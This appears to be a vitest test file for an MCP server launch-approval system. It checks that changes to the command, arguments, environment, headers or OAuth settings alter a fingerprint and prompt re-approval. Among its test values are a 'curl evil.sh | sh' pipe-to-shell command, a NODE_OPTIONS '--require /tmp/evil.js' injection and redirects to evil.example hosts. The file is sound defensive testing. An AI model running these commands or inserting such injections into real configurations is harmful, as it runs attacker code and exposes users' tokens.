import { describe, expect, it, test } from 'vitest';
import { canonicalHash, sha256Hex } from '../shared/canonical-json';
import { describeLaunchChanges, diffLaunch, launchFingerprint } from './fingerprint';
import type { LaunchChange } from './fingerprint';
import type { LaunchDefinition } from '../shared/server-spec';
import { seededRandom } from '../../test/support/seeded-random';

// Dangerous direction: a change that keeps its approval. Any edit to what would run must change
// the fingerprint and be named on the card; two spellings of one thing re-prompting only costs a
// click.

const approved: LaunchDefinition = {
  executable: '/usr/local/bin/node',
  args: ['/opt/mcp/server.js', '--root', '/home/ana/project'],
  env: { LOG_LEVEL: 'info', GITHUB_TOKEN: '${GITHUB_TOKEN}' },
  cwd: '/home/ana/project',
  provenance: 'workspace',
  workspaceRoot: '/home/ana/project',
};

const NFC_HOME = '/home/jos\u00e9';
const NFD_HOME = '/home/jose\u0301';

type Mutation = [
  name: string,
  before: LaunchDefinition,
  after: LaunchDefinition,
  field: LaunchChange['field'],
];

const mutations: Mutation[] = [
  ['another executable', approved, { ...approved, executable: '/usr/bin/node' }, 'executable'],
  ['executable case', approved, { ...approved, executable: '/usr/local/bin/Node' }, 'executable'],
  [
    'executable through ..',
    approved,
    { ...approved, executable: '/usr/local/bin/../bin/node' },
    'executable',
  ],
  [
    'executable NFC vs NFD',
    { ...approved, executable: `${NFC_HOME}/bin/server` },
    { ...approved, executable: `${NFD_HOME}/bin/server` },
    'executable',
  ],
  ['arg added', approved, { ...approved, args: [...approved.args, '--write'] }, 'args'],
  ['empty arg added', approved, { ...approved, args: [...approved.args, ''] }, 'args'],
  ['arg removed', approved, { ...approved, args: approved.args.slice(0, 2) }, 'args'],
  [
    'args reordered',
    approved,
    { ...approved, args: ['--root', '/home/ana/project', '/opt/mcp/server.js'] },
    'args',
  ],
  ['arg changed', approved, { ...approved, args: ['/opt/mcp/server.js', '--root', '/'] }, 'args'],
  [
    'args split "a b" vs ["a", "b"]',
    { ...approved, args: ['/opt/mcp/server.js', '--root /home/ana/project'] },
    approved,
    'args',
  ],
  ['arg NFC vs NFD', { ...approved, args: [NFC_HOME] }, { ...approved, args: [NFD_HOME] }, 'args'],
  [
    'env key added (NODE_OPTIONS)',
    approved,
    { ...approved, env: { ...approved.env, NODE_OPTIONS: '--require /tmp/evil.js' } },
    'env',
  ],
  ['env key removed', approved, { ...approved, env: { GITHUB_TOKEN: '${GITHUB_TOKEN}' } }, 'env'],
  [
    'env value changed',
    approved,
    { ...approved, env: { ...approved.env, LOG_LEVEL: 'debug' } },
    'env',
  ],
  [
    'env value expanded (the fingerprint sees the configured text)',
    approved,
    { ...approved, env: { ...approved.env, GITHUB_TOKEN: 'ghp_secret' } },
    'env',
  ],
  [
    'env {"a":"b=c"} vs {"a=b":"c"}',
    { ...approved, env: { a: 'b=c' } },
    { ...approved, env: { 'a=b': 'c' } },
    'env',
  ],
  [
    'env value with trailing space',
    approved,
    { ...approved, env: { ...approved.env, LOG_LEVEL: 'info ' } },
    'env',
  ],
  [
    'env key case (Path vs PATH)',
    { ...approved, env: { Path: '/usr/bin' } },
    { ...approved, env: { PATH: '/usr/bin' } },
    'env',
  ],
  [
    'env key "__proto__" from JSON',
    approved,
    { ...approved, env: envFromJson('{"__proto__": "x", "LOG_LEVEL": "info"}') },
    'env',
  ],
  ['cwd changed', approved, { ...approved, cwd: '/home/ana' }, 'cwd'],
  ['cwd added', { ...approved, cwd: null }, approved, 'cwd'],
  ['cwd removed', approved, { ...approved, cwd: null }, 'cwd'],
  ['provenance', { ...approved, provenance: 'user' }, approved, 'provenance'],
  [
    'workspace root changed',
    approved,
    { ...approved, workspaceRoot: '/home/ana/other' },
    'workspaceRoot',
  ],
  [
    'workspace root null vs ""',
    { ...approved, workspaceRoot: null },
    { ...approved, workspaceRoot: '' },
    'workspaceRoot',
  ],
  [
    'workspace root NFC vs NFD',
    { ...approved, workspaceRoot: NFC_HOME },
    { ...approved, workspaceRoot: NFD_HOME },
    'workspaceRoot',
  ],
  // A repository renaming an approved server's tools: allow rules are globs over those names.
  ['tool prefix added', approved, { ...approved, toolPrefix: 'github' }, 'toolPrefix'],
  [
    'tool prefix changed',
    { ...approved, toolPrefix: 'notes' },
    { ...approved, toolPrefix: 'github' },
    'toolPrefix',
  ],
  [
    'tool prefix case',
    { ...approved, toolPrefix: 'notes' },
    { ...approved, toolPrefix: 'Notes' },
    'toolPrefix',
  ],
  ['tool prefix "" vs none', { ...approved, toolPrefix: '' }, approved, 'toolPrefix'],
];

describe('a change that keeps its approval is the dangerous direction', () => {
  test.each(mutations)('%s: new fingerprint, diff names the field', (_, before, after, field) => {
    expect(launchFingerprint(after)).not.toBe(launchFingerprint(before));
    for (const changes of [diffLaunch(before, after), diffLaunch(after, before)]) {
      expect(changes.length).toBeGreaterThan(0);
      // A renamed env key is two changes (one removed, one added), both naming env.
      expect(new Set(changes.map((change) => change.field))).toEqual(new Set([field]));
      expect(describeLaunchChanges(changes)).toMatch(/ - needs approval$/);
    }
  });

  it('has no two mutations with one fingerprint', () => {
    const all = new Set(
      mutations.flatMap(([, b, a]) => [launchFingerprint(b), launchFingerprint(a)]),
    );
    const distinct = new Set(
      mutations.flatMap(([, b, a]) => [JSON.stringify(b), JSON.stringify(a)]),
    );
    expect(all.size).toBe(distinct.size);
  });

  it('names the env key and both values', () => {
    const changes = diffLaunch(approved, {
      ...approved,
      env: { LOG_LEVEL: 'debug', NODE_OPTIONS: '--require /tmp/evil.js' },
    });
    expect(changes).toEqual([
      { field: 'env', key: 'GITHUB_TOKEN', before: '${GITHUB_TOKEN}', after: null },
      { field: 'env', key: 'LOG_LEVEL', before: 'info', after: 'debug' },
      { field: 'env', key: 'NODE_OPTIONS', before: null, after: '--require /tmp/evil.js' },
    ]);
  });

  it('shows args as JSON so a split is visible', () => {
    const changes = diffLaunch({ ...approved, args: ['a b'] }, { ...approved, args: ['a', 'b'] });
    expect(changes).toEqual([{ field: 'args', before: '["a b"]', after: '["a","b"]' }]);
  });

  it('escapes non-ASCII when the two sides would render alike', () => {
    const changes = diffLaunch({ ...approved, cwd: NFC_HOME }, { ...approved, cwd: NFD_HOME });
    expect(changes).toEqual([
      { field: 'cwd', before: '/home/jos⟦U+00E9⟧', after: '/home/jose⟦U+0301⟧' },
    ]);
    const visible = diffLaunch({ ...approved, cwd: NFC_HOME }, { ...approved, cwd: '/home/jo' });
    expect(visible).toEqual([{ field: 'cwd', before: NFC_HOME, after: '/home/jo' }]);
  });

  it('shows a null cwd as (none)', () => {
    expect(diffLaunch({ ...approved, cwd: null }, approved)).toEqual([
      { field: 'cwd', before: '(none)', after: '/home/ana/project' },
    ]);
  });
});

describe('one definition has one fingerprint', () => {
  const prng = seededRandom;

  function shuffle<T>(items: readonly T[], random: () => number): T[] {
    const out = [...items];
    for (let i = out.length - 1; i > 0; i--) {
      const j = Math.floor(random() * (i + 1));
      const a = out[i]!;
      out[i] = out[j]!;
      out[j] = a;
    }
    return out;
  }

  it('ignores the insertion order of env keys and of the definition fields (1,000 shuffles)', () => {
    const env = Object.fromEntries(
      ['PATH', 'HOME', 'a', 'a=b', 'A', 'é', 'e\u0301', '_', 'Z9', '10', '9', 'LOG_LEVEL'].map(
        (key, index) => [key, `value ${index}`],
      ),
    );
    const base: LaunchDefinition = { ...approved, env };
    const fields = Object.entries(base);
    const random = prng(0x5eed);
    const seen = new Set<string>();
    for (let round = 0; round < 1000; round++) {
      const shuffledEnv = Object.fromEntries(shuffle(Object.entries(env), random));
      const rebuilt: LaunchDefinition = {
        ...Object.fromEntries(shuffle(fields, random)),
        ...base,
        env: shuffledEnv,
      };
      // Same key set, inserted in a different order.
      expect(Object.keys(shuffledEnv)).toHaveLength(Object.keys(env).length);
      seen.add(launchFingerprint(rebuilt));
      expect(diffLaunch(base, rebuilt)).toEqual([]);
    }
    expect([...seen]).toEqual([launchFingerprint(base)]);
  });

  it('pins the format: version 1, env as sorted pairs (golden value)', () => {
    const text =
      '{"args":["/opt/mcp/server.js","--root","/home/ana/project"],"cwd":"/home/ana/project",' +
      '"env":[["GITHUB_TOKEN","${GITHUB_TOKEN}"],["LOG_LEVEL","info"]],' +
      '"executable":"/usr/local/bin/node","provenance":"workspace","v":1,' +
      '"workspaceRoot":"/home/ana/project"}';
    expect(launchFingerprint(approved)).toBe(sha256Hex(text));
    // A silent format change (a field added, renamed or re-encoded) fails here.
    expect(launchFingerprint(approved)).toBe(
      '09eccbaf36eb5fb0cdd1ef3362e1e53e0b30c7e74e42aa5011ac4c3cc3d30a61',
    );
  });

  it('is 64 lower-case hex characters', () => {
    expect(launchFingerprint(approved)).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe('describeLaunchChanges', () => {
  const envChange = (key: string, before: string | null, after: string | null): LaunchChange => ({
    field: 'env',
    key,
    before,
    after,
  });
  const command: LaunchChange = { field: 'executable', before: '/a', after: '/b' };
  const args: LaunchChange = { field: 'args', before: '[]', after: '["x"]' };
  const cwd: LaunchChange = { field: 'cwd', before: '(none)', after: '/x' };

  test.each<[string, LaunchChange[], string]>([
    ['nothing', [], ''],
    ['command', [command], 'command changed - needs approval'],
    ['args', [args], 'args changed - needs approval'],
    [
      'env added',
      [envChange('NODE_OPTIONS', null, '-r x')],
      'env NODE_OPTIONS added - needs approval',
    ],
    ['env removed', [envChange('LOG', 'a', null)], 'env LOG removed - needs approval'],
    ['env changed', [envChange('LOG', 'a', 'b')], 'env LOG changed - needs approval'],
    [
      'odd env key is quoted',
      [envChange('a=b c', null, 'x')],
      'env "a=b c" added - needs approval',
    ],
    [
      'non-ASCII env key is escaped',
      [envChange('e\u0301', null, 'x')],
      'env "e⟦U+0301⟧" added - needs approval',
    ],
    [
      'long env key is cut',
      [envChange('K'.repeat(100), null, 'x')],
      `env ${'K'.repeat(39)}… added - needs approval`,
    ],
    [
      'two env keys',
      [envChange('A', null, 'x'), envChange('B', 'y', null)],
      'env changed - needs approval',
    ],
    [
      'command and env',
      [command, envChange('NODE_OPTIONS', null, 'x')],
      'command and env changed - needs approval',
    ],
    [
      'in a fixed order',
      [cwd, envChange('A', null, 'x'), args, command],
      'command, args, env and working folder changed - needs approval',
    ],
    [
      'tool prefix',
      [{ field: 'toolPrefix', before: 'notes', after: 'github' }],
      'tool prefix changed - needs approval',
    ],
  ])('%s', (_, changes, line) => {
    expect(describeLaunchChanges(changes)).toBe(line);
  });

  it('describes a real diff', () => {
    const changes = diffLaunch(approved, {
      ...approved,
      executable: '/bin/sh',
      args: ['-c', 'curl evil.sh | sh'],
    });
    expect(describeLaunchChanges(changes)).toBe('command and args changed - needs approval');
  });
});

function envFromJson(text: string): Record<string, string> {
  const parsed: unknown = JSON.parse(text);
  const env: Record<string, string> = {};
  if (typeof parsed !== 'object' || parsed === null) return env;
  for (const [key, value] of Object.entries(parsed)) {
    if (typeof value === 'string') Object.defineProperty(env, key, { value, enumerable: true });
  }
  return env;
}

describe('remote definitions (issue 11)', () => {
  const remote: LaunchDefinition = {
    executable: 'https://mcp.example.com/mcp',
    args: [],
    env: {},
    cwd: null,
    provenance: 'user',
    workspaceRoot: null,
    remote: {
      transport: 'streamable-http',
      url: 'https://mcp.example.com/mcp',
      headers: { Authorization: 'Bearer ${TOKEN}', 'X-Tenant': 'acme' },
    },
  };
  const withRemote = (
    over: Partial<NonNullable<LaunchDefinition['remote']>>,
  ): LaunchDefinition => ({
    ...remote,
    remote: {
      transport: 'streamable-http',
      url: remote.executable,
      headers: {},
      ...remote.remote,
      ...over,
    },
  });

  it('leaves a local definition fingerprinted by the shape it had before remotes', () => {
    // The property that keeps every stored approval valid: no `remote` key for a local server.
    const before = {
      v: 1,
      executable: approved.executable,
      args: [...approved.args],
      env: Object.entries(approved.env).sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0)),
      cwd: approved.cwd,
      provenance: approved.provenance,
      workspaceRoot: approved.workspaceRoot,
    };
    expect(launchFingerprint(approved)).toBe(canonicalHash(before));
    expect(launchFingerprint({ ...approved, remote: undefined })).toBe(canonicalHash(before));
    // Likewise no `toolPrefix` key unless a workspace file wrote one.
    expect(launchFingerprint({ ...approved, toolPrefix: undefined })).toBe(canonicalHash(before));
  });

  test.each<[string, LaunchDefinition, LaunchChange[]]>([
    [
      'the URL',
      {
        ...withRemote({ url: 'https://evil.example/mcp' }),
        executable: 'https://evil.example/mcp',
      },
      [
        {
          field: 'executable',
          before: 'https://mcp.example.com/mcp',
          after: 'https://evil.example/mcp',
        },
      ],
    ],
    [
      'the transport',
      withRemote({ transport: 'sse' }),
      [{ field: 'transport', before: 'streamable-http', after: 'sse' }],
    ],
    [
      'one header value',
      withRemote({ headers: { Authorization: 'Bearer ${OTHER}', 'X-Tenant': 'acme' } }),
      [
        {
          field: 'header',
          key: 'Authorization',
          before: 'Bearer ${TOKEN}',
          after: 'Bearer ${OTHER}',
        },
      ],
    ],
    [
      'a header added',
      withRemote({ headers: { ...remote.remote?.headers, 'X-Forward-To': 'evil' } }),
      [{ field: 'header', key: 'X-Forward-To', before: null, after: 'evil' }],
    ],
    [
      'a header removed',
      withRemote({ headers: { Authorization: 'Bearer ${TOKEN}' } }),
      [{ field: 'header', key: 'X-Tenant', before: 'acme', after: null }],
    ],
    [
      'a header name in another case',
      withRemote({ headers: { authorization: 'Bearer ${TOKEN}', 'X-Tenant': 'acme' } }),
      [
        { field: 'header', key: 'Authorization', before: 'Bearer ${TOKEN}', after: null },
        { field: 'header', key: 'authorization', before: null, after: 'Bearer ${TOKEN}' },
      ],
    ],
    [
      'a local server in its place',
      { ...approved, provenance: 'user', workspaceRoot: null, cwd: null },
      [
        { field: 'executable', before: 'https://mcp.example.com/mcp', after: approved.executable },
        { field: 'transport', before: 'streamable-http', after: 'stdio' },
        { field: 'args', before: '[]', after: JSON.stringify(approved.args) },
        { field: 'env', key: 'GITHUB_TOKEN', before: null, after: '${GITHUB_TOKEN}' },
        { field: 'env', key: 'LOG_LEVEL', before: null, after: 'info' },
        { field: 'header', key: 'Authorization', before: 'Bearer ${TOKEN}', after: null },
        { field: 'header', key: 'X-Tenant', before: 'acme', after: null },
      ],
    ],
  ])('a change of %s changes the fingerprint and is named', (_label, after, changes) => {
    expect(launchFingerprint(after)).not.toBe(launchFingerprint(remote));
    expect(diffLaunch(remote, after)).toEqual(changes);
  });

  it('ignores the order in which headers were written', () => {
    const reordered = withRemote({
      headers: { 'X-Tenant': 'acme', Authorization: 'Bearer ${TOKEN}' },
    });
    expect(Object.keys(reordered.remote?.headers ?? {})).toEqual(['X-Tenant', 'Authorization']);
    expect(launchFingerprint(reordered)).toBe(launchFingerprint(remote));
    expect(diffLaunch(remote, reordered)).toEqual([]);
  });

  it('leaves a remote definition without oauth fingerprinted as before pre-registered clients', () => {
    // Every remote approval stored before `oauth` existed stays valid: no `oauth` key without one.
    const def = remote.remote;
    if (def === undefined) throw new Error('a remote definition');
    const before = {
      v: 1,
      executable: remote.executable,
      args: [],
      env: [],
      cwd: null,
      provenance: 'user',
      workspaceRoot: null,
      remote: {
        transport: def.transport,
        url: def.url,
        headers: Object.entries(def.headers).sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0)),
      },
    };
    expect(launchFingerprint(remote)).toBe(canonicalHash(before));
  });

  // Dangerous direction: a workspace swapping the OAuth client (its own app, that then holds the
  // user's grant) or the variable its secret is read from, while the approval stands.
  const client = { clientId: 'Iv1.abc', clientSecret: '${GH_SECRET}', scopes: ['repo'] };
  test.each<[string, LaunchDefinition, LaunchDefinition, LaunchChange[]]>([
    [
      'a client added',
      remote,
      withRemote({ oauth: client }),
      [
        { field: 'oauthClientId', before: '(none)', after: 'Iv1.abc' },
        { field: 'oauthClientSecret', before: '(none)', after: '${GH_SECRET}' },
      ],
    ],
    [
      'another client id',
      withRemote({ oauth: client }),
      withRemote({ oauth: { ...client, clientId: 'Iv1.evil' } }),
      [{ field: 'oauthClientId', before: 'Iv1.abc', after: 'Iv1.evil' }],
    ],
    [
      'another secret variable',
      withRemote({ oauth: client }),
      withRemote({ oauth: { ...client, clientSecret: '${HOME}' } }),
      [{ field: 'oauthClientSecret', before: '${GH_SECRET}', after: '${HOME}' }],
    ],
    [
      'the secret dropped (a public client)',
      withRemote({ oauth: client }),
      withRemote({ oauth: { clientId: 'Iv1.abc', scopes: ['repo'] } }),
      [{ field: 'oauthClientSecret', before: '${GH_SECRET}', after: '(none)' }],
    ],
    [
      'the client removed (dynamic registration)',
      withRemote({ oauth: client }),
      remote,
      [
        { field: 'oauthClientId', before: 'Iv1.abc', after: '(none)' },
        { field: 'oauthClientSecret', before: '${GH_SECRET}', after: '(none)' },
      ],
    ],
  ])('the OAuth client: %s changes the fingerprint and is named', (_label, from, to, changes) => {
    expect(launchFingerprint(to)).not.toBe(launchFingerprint(from));
    expect(diffLaunch(from, to)).toEqual(changes);
  });

  // Dangerous direction: a machine client (decision 0024) mints tokens with no page to show what
  // it gets, so a workspace widening its scopes, moving its issuer pin or swapping the key it
  // signs with must re-prompt, and the card must say so.
  const machine = {
    clientId: 'svc',
    clientSecret: '${SVC_SECRET}',
    scopes: ['tools'],
    grant: 'client_credentials' as const,
  };
  const grantLine = (over: string) => `client_credentials with ${over}`;
  test.each<[string, LaunchDefinition, LaunchDefinition, string | null, string | null]>([
    [
      "a person's client made a machine client",
      withRemote({ oauth: { clientId: 'svc', clientSecret: '${SVC_SECRET}', scopes: ['tools'] } }),
      withRemote({ oauth: machine }),
      '(none)',
      grantLine('client secret, issuer pinned on first use, scopes ["tools"]'),
    ],
    [
      'wider scopes',
      withRemote({ oauth: machine }),
      withRemote({ oauth: { ...machine, scopes: ['tools', 'admin'] } }),
      grantLine('client secret, issuer pinned on first use, scopes ["tools"]'),
      grantLine('client secret, issuer pinned on first use, scopes ["tools","admin"]'),
    ],
    [
      'an issuer named',
      withRemote({ oauth: machine }),
      withRemote({ oauth: { ...machine, issuer: 'https://idp.example.com' } }),
      grantLine('client secret, issuer pinned on first use, scopes ["tools"]'),
      grantLine('client secret, issuer "https://idp.example.com", scopes ["tools"]'),
    ],
    [
      'a key instead of the secret',
      withRemote({ oauth: machine }),
      withRemote({
        oauth: {
          clientId: 'svc',
          scopes: ['tools'],
          grant: 'client_credentials',
          privateKey: '${SVC_SECRET}',
          algorithm: 'ES256',
        },
      }),
      grantLine('client secret, issuer pinned on first use, scopes ["tools"]'),
      grantLine('private key ${SVC_SECRET} (ES256), issuer pinned on first use, scopes ["tools"]'),
    ],
  ])('a machine client: %s re-prompts, named as its grant', (_label, from, to, before, after) => {
    expect(launchFingerprint(to)).not.toBe(launchFingerprint(from));
    const grant = diffLaunch(from, to).filter((change) => change.field === 'oauthGrant');
    expect(grant).toEqual([{ field: 'oauthGrant', before, after }]);
  });

  // Dangerous direction (decision 0032): a workspace moving the user's ID token to another IdP,
  // another variable or another endpoint, or the grant to another authorization server, without
  // the card asking again and naming it.
  const idp = { issuer: 'https://acme.okta.com', clientId: 'sy', idToken: '${IDP_ID_TOKEN}' };
  const xaa = {
    clientId: 'xaa',
    clientSecret: '${XAA_SECRET}',
    scopes: [],
    grant: 'cross-app-access' as const,
    idp,
  };
  const xaaLine = (
    idpPart: string,
    as = 'the authorization server the MCP server names, pinned on first use',
  ) =>
    `cross-app-access: ID token \${IDP_ID_TOKEN} sent to IdP ${idpPart} for a grant to ${as}, scopes []`;
  const acme = '"https://acme.okta.com" (client "sy", no secret, token endpoint discovered)';
  test.each<[string, LaunchDefinition, string]>([
    [
      'another IdP',
      withRemote({ oauth: { ...xaa, idp: { ...idp, issuer: 'https://evil.example.com' } } }),
      xaaLine('"https://evil.example.com" (client "sy", no secret, token endpoint discovered)'),
    ],
    [
      'another ID token variable',
      withRemote({ oauth: { ...xaa, idp: { ...idp, idToken: '${OTHER}' } } }),
      `cross-app-access: ID token \${OTHER} sent to IdP ${acme} for a grant to the authorization server the MCP server names, pinned on first use, scopes []`,
    ],
    [
      'a token endpoint named',
      withRemote({
        oauth: { ...xaa, idp: { ...idp, tokenEndpoint: 'https://acme.okta.com/t' } },
      }),
      xaaLine(
        '"https://acme.okta.com" (client "sy", no secret, token endpoint "https://acme.okta.com/t")',
      ),
    ],
    [
      'an IdP secret',
      withRemote({ oauth: { ...xaa, idp: { ...idp, clientSecret: '${IDP_SECRET}' } } }),
      xaaLine(
        '"https://acme.okta.com" (client "sy", secret ${IDP_SECRET}, token endpoint discovered)',
      ),
    ],
    [
      'an authorization server pinned',
      withRemote({ oauth: { ...xaa, issuer: 'https://auth.example.com' } }),
      xaaLine(acme, 'issuer "https://auth.example.com"'),
    ],
  ])('a cross-app access client: %s re-prompts, named as its grant', (_label, to, after) => {
    const from = withRemote({ oauth: xaa });
    expect(launchFingerprint(to)).not.toBe(launchFingerprint(from));
    const grant = diffLaunch(from, to).filter((change) => change.field === 'oauthGrant');
    expect(grant).toEqual([{ field: 'oauthGrant', before: xaaLine(acme), after }]);
  });

  test('a machine client keeps the fingerprint it had before cross-app access', () => {
    const def = withRemote({ oauth: machine });
    const { remote: endpoint } = def;
    expect(launchFingerprint(def)).toBe(
      canonicalHash({
        v: 1,
        executable: def.executable,
        args: [],
        env: [],
        cwd: null,
        provenance: 'user',
        workspaceRoot: null,
        remote: {
          transport: endpoint?.transport,
          url: endpoint?.url,
          headers: Object.entries(endpoint?.headers ?? {}).sort(([a], [b]) => (a < b ? -1 : 1)),
          oauth: {
            clientId: 'svc',
            clientSecret: '${SVC_SECRET}',
            grant: 'client_credentials',
            privateKey: null,
            algorithm: null,
            issuer: null,
            scopes: ['tools'],
          },
        },
      }),
    );
  });

  test("a person's client keeps the fingerprint it had before machine clients", () => {
    const client = { clientId: 'Iv1.abc', clientSecret: '${GH_SECRET}', scopes: ['repo'] };
    const def = withRemote({ oauth: client });
    const { remote: endpoint } = def;
    expect(launchFingerprint(def)).toBe(
      canonicalHash({
        v: 1,
        executable: def.executable,
        args: [],
        env: [],
        cwd: null,
        provenance: 'user',
        workspaceRoot: null,
        remote: {
          transport: endpoint?.transport,
          url: endpoint?.url,
          headers: Object.entries(endpoint?.headers ?? {}).sort(([a], [b]) => (a < b ? -1 : 1)),
          oauth: { clientId: 'Iv1.abc', clientSecret: '${GH_SECRET}' },
        },
      }),
    );
  });

  it('keeps the fingerprint when only the scopes change', () => {
    const from = withRemote({ oauth: client });
    const to = withRemote({ oauth: { ...client, scopes: ['repo', 'admin:org'] } });
    expect(launchFingerprint(to)).toBe(launchFingerprint(from));
    expect(diffLaunch(from, to)).toEqual([]);
  });

  it('differs from a local definition with the same fields but no remote', () => {
    const local: LaunchDefinition = { ...remote, remote: undefined };
    expect(launchFingerprint(local)).not.toBe(launchFingerprint(remote));
  });

  test.each<[string, LaunchChange[], string]>([
    [
      'one header added',
      [{ field: 'header', key: 'X-Forward-To', before: null, after: 'x' }],
      'header X-Forward-To added - needs approval',
    ],
    [
      'one header changed',
      [{ field: 'header', key: 'Authorization', before: 'a', after: 'b' }],
      'header Authorization changed - needs approval',
    ],
    [
      'one header removed',
      [{ field: 'header', key: 'X-Tenant', before: 'a', after: null }],
      'header X-Tenant removed - needs approval',
    ],
    [
      'a header name with a space is quoted',
      [{ field: 'header', key: 'a b', before: null, after: 'x' }],
      'header "a b" added - needs approval',
    ],
    [
      'two headers',
      [
        { field: 'header', key: 'A', before: null, after: 'x' },
        { field: 'header', key: 'B', before: 'y', after: null },
      ],
      'headers changed - needs approval',
    ],
    [
      'the transport',
      [{ field: 'transport', before: 'sse', after: 'streamable-http' }],
      'transport changed - needs approval',
    ],
    [
      'URL, transport and a header, in order',
      [
        { field: 'header', key: 'A', before: null, after: 'x' },
        { field: 'transport', before: 'sse', after: 'auto' },
        { field: 'executable', before: 'https://a', after: 'https://b' },
      ],
      'URL, transport and headers changed - needs approval',
    ],
    [
      'the OAuth client',
      [{ field: 'oauthClientId', before: 'a', after: 'b' }],
      'OAuth client changed - needs approval',
    ],
    [
      'one hyphenated header, named bare',
      [{ field: 'header', key: 'X-Api-Key', before: 'a', after: 'b' }],
      'header X-Api-Key changed - needs approval',
    ],
  ])('describes %s', (_label, changes, line) => {
    expect(describeLaunchChanges(changes, 'remote')).toBe(line);
  });

  it('never puts a header value in the summary', () => {
    const changes = diffLaunch(
      remote,
      withRemote({ headers: { Authorization: 'Bearer sk-live' } }),
    );
    expect(describeLaunchChanges(changes)).not.toContain('sk-live');
  });
});
